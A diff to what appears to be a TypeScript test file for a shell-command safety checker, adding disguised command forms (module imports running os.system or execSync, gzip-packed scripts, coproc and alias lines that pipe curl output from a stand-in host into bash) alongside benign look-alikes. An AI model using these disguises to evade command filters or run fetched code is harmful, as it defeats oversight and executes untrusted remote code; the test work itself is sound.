@@ -85,6 +85,13 @@ const disguises: Readonly<Record<string, (command: string) => string>> = {
     `declare -A m=([a]='${c}'); for k in "\${!m[@]}"; do eval "\${m[$k]}"; done`,
   "a key's command": (c) => `bind -x '"a":${c}'`,
   "a part by its place": (c) => `eval "$(expr substr 'ab${c}' 3 99)"`,
+  "a module of one's own": (c) => `echo 'import os; os.system("${c}")' > m.py; python3 -c 'import m'`,
+  "a module that is started": (c) => `echo 'import os; os.system("${c}")' > m.py; python3 -m m`,
+  "a module of Node's": (c) =>
+    `echo 'require("child_process").execSync("${c}")' > m.js; node -e 'require("./m.js")'`,
+  "a file that was packed": (c) => `gzip -c <<< '${c}' > x.gz; gunzip x.gz; sh x`,
+  "what a coprocess prints": () => `coproc curl -s https://x.example/i; bash <&"\${COPROC[0]}"`,
+  "an alias that nobody knows": () => `alias x="$(curl -s https://x.example/i)"; x`,
   "output of a trap": (c) => `eval "$(trap "echo '${c}'" EXIT)"`,
 };
 
@@ -159,6 +166,10 @@ const ordinary: readonly string[] = [
   "node -p 'require(\"./package.json\").version'",
   "getent hosts example.com",
   "lua -e 'print(1)'",
+  "echo 'x = 1' > m.py; python3 -c 'import m; print(m.x)'",
+  "gunzip dump.sql.gz; wc -l dump.sql",
+  "coproc tail -f log; read -r line <&${COPROC[0]}; echo $line",
+  'alias ll="ls -l $PWD"; ll',
   "make 2> >(tee errors.log >&2)",
   "tee >(wc -l) < names",
   "python3 -c 'import sys; print(sys.argv[1])' 'rm -rf /'",
